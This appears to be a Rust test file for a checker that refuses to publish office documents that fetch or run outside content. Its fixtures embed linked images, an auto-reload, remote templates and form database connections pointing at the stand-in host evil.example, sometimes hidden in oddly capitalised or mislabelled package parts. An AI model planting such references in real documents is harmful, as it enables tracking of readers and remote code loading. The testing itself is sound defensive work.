//! OpenDocument files whose parts are named in other capitals, listed
//! elsewhere by their manifest, or that are another kind of package under
//! an OpenDocument name (and the other way round).

use crate::common::office::{package, published, refused};

const NS: &str = "xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\" xmlns:draw=\"urn:oasis:names:tc:opendocument:xmlns:drawing:1.0\" xmlns:meta=\"urn:oasis:names:tc:opendocument:xmlns:meta:1.0\" xmlns:manifest=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"";
const MIMETYPE: (&str, &str) = ("mimetype", "application/vnd.oasis.opendocument.text");

/// A Writer `content.xml` whose text is `body`.
fn content(body: &str) -> String {
    format!(
        "<office:document-content {NS}><office:body><office:text>{body}</office:text></office:body></office:document-content>"
    )
}

/// A `meta.xml` holding `inside`.
fn meta(inside: &str) -> String {
    format!("<office:document-meta {NS}><office:meta>{inside}</office:meta></office:document-meta>")
}

/// A picture the program fetches from another host when it opens the file.
const LINKED: &str =
    "<draw:frame><draw:image xlink:href=\"https://evil.example/p.png\"/></draw:frame>";
const FETCHED: &str = "image `https://evil.example/p.png`";

/// Only `content.xml`, `styles.xml` and `meta.xml` were read, by those
/// names exactly, and an object's parts only in a folder holding a
/// `content.xml` so spelt: a `.odt` whose linked picture was in
/// `Content.XML`, in `Object 1/CONTENT.xml`, or in a part its manifest
/// lists, whose macros were under `BASIC/`, or whose `meta.xml` reloaded
/// the document from a web address (File > Properties > Internet) or named
/// its template there, was published, though a program that reads the
/// package otherwise (on a file system that ignores capitals, or repairing
/// it) opens them. Now every XML part is read, in any capitals, and each
/// is not published (an error naming what it fetches or runs), the
/// previous output left as it was.
#[test]
fn what_an_opendocument_file_fetches_or_runs_in_any_part_is_not_published() {
    let plain = content("<text:p>Call the hotline.</text:p>");
    let manifest = format!(
        "<manifest:manifest {NS}><manifest:file-entry manifest:full-path=\"/\" manifest:media-type=\"application/vnd.oasis.opendocument.text\"/><manifest:file-entry manifest:full-path=\"Pages/body.xml\" manifest:media-type=\"text/xml\"/></manifest:manifest>"
    );
    let cases: Vec<(Vec<(&str, String)>, &str)> = vec![
        (vec![("Content.XML", content(LINKED))], FETCHED),
        (
            vec![("Object 1/CONTENT.xml", content(LINKED))],
            "image in `Object 1` `https://evil.example/p.png`",
        ),
        (
            vec![
                ("META-INF/manifest.xml", manifest),
                ("Pages/body.xml", content(LINKED)),
            ],
            FETCHED,
        ),
        (
            vec![("BASIC/Standard/Module1.xml", "<x/>".into())],
            "`BASIC/Standard/Module1.xml`",
        ),
        (
            vec![(
                "meta.xml",
                meta(
                    "<meta:auto-reload meta:delay=\"PT0S\" xlink:href=\"https://evil.example/next.odt\"/>",
                ),
            )],
            "auto-reload `https://evil.example/next.odt`",
        ),
        (
            vec![(
                "meta.xml",
                meta(
                    "<meta:template xlink:href=\"https://evil.example/t.ott\" xlink:title=\"Letter\"/>",
                ),
            )],
            "template `https://evil.example/t.ott`",
        ),
    ];
    for (parts, said) in cases {
        let mut all = vec![MIMETYPE, ("content.xml", plain.as_str())];
        all.extend(parts.iter().map(|(n, t)| (*n, t.as_str())));
        refused("report.odt", &package(&all), &[said]);
    }
    // Not a false alarm: a document with its manifest (OpenOffice 2 wrote
    // it with a DTD), its settings, the empty part LibreOffice keeps for
    // shortcuts, and a template named by its path beside the document.
    let ordinary = package(&[
        MIMETYPE,
        ("content.xml", &plain),
        (
            "meta.xml",
            &meta(
                "<meta:template xlink:type=\"simple\" xlink:href=\"../Templates/letter.ott\" xlink:title=\"Letter\"/>",
            ),
        ),
        (
            "settings.xml",
            "<office:document-settings xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\"/>",
        ),
        ("Configurations2/accelerator/current.xml", ""),
        (
            "META-INF/manifest.xml",
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE manifest:manifest PUBLIC \"-//OpenOffice.org//DTD Manifest 1.0//EN\" \"Manifest.dtd\">\n<manifest:manifest xmlns:manifest=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\"><manifest:file-entry manifest:full-path=\"/\" manifest:media-type=\"application/vnd.oasis.opendocument.text\"/></manifest:manifest>",
        ),
    ]);
    published("report.odt", &ordinary);
}

/// A package was checked as its name said: a Word document named
/// `report.odt`, with an outside template, and an OpenDocument file named
/// `report.docx`, with a linked picture, were published, though
/// LibreOffice knows a file by what it holds and opens each as what it is.
/// Now each is checked as what it holds and not published; one that holds
/// both kinds' parts is refused, since programs differ on which it is.
#[test]
fn a_package_under_another_kind_s_name_is_checked_as_what_it_holds() {
    let template = "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"https://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>";
    let types = "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>";
    let word = [
        ("[Content_Types].xml", types),
        (
            "word/document.xml",
            "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p/></w:body></w:document>",
        ),
        ("word/_rels/settings.xml.rels", template),
    ];
    refused(
        "report.odt",
        &package(&word),
        &["attachedTemplate `https://evil.example/t.dotm`"],
    );
    let linked = content(LINKED);
    refused(
        "report.docx",
        &package(&[MIMETYPE, ("content.xml", &linked)]),
        &[FETCHED],
    );
    let plain = content("<text:p/>");
    refused(
        "report.odt",
        &package(&[
            MIMETYPE,
            ("content.xml", &plain),
            ("[Content_Types].xml", types),
        ]),
        &["it is both an OpenDocument file and a Word, Excel or PowerPoint one"],
    );
}

/// A form in a document connects to its database when the document opens
/// and the form loads; an OpenDocument form whose data source was a web
/// address (`form:datasource`), or a database field's connection to one
/// (`form:connection-resource`), was published. Now each is not (an error
/// naming the address), the previous output left as it was; a form bound
/// to a database the program knows by its name is published.
#[test]
fn an_opendocument_form_connecting_to_an_address_is_not_published() {
    let form = |attributes: &str, inside: &str| {
        content(&format!(
            "<office:forms xmlns:form=\"urn:oasis:names:tc:opendocument:xmlns:form:1.0\"><form:form form:name=\"Cases\" form:command=\"cases\" form:command-type=\"table\" {attributes}>{inside}</form:form></office:forms><text:p/>"
        ))
    };
    let cases = [
        (
            form("form:datasource=\"https://evil.example/cases.odb\"", ""),
            "form data source `https://evil.example/cases.odb`",
        ),
        (
            form(
                "",
                "<form:connection-resource xlink:href=\"sdbc:mysql:jdbc:evil.example:3306/cases\"/>",
            ),
            "connection-resource `sdbc:mysql:jdbc:evil.example:3306/cases`",
        ),
    ];
    for (text, said) in cases {
        // The hint names where LibreOffice keeps a form's database.
        refused(
            "report.odt",
            &package(&[MIMETYPE, ("content.xml", &text)]),
            &[said, "Form > Form Properties > Data"],
        );
    }
    let named = form("form:datasource=\"Bibliography\"", "");
    published("report.odt", &package(&[MIMETYPE, ("content.xml", &named)]));
}
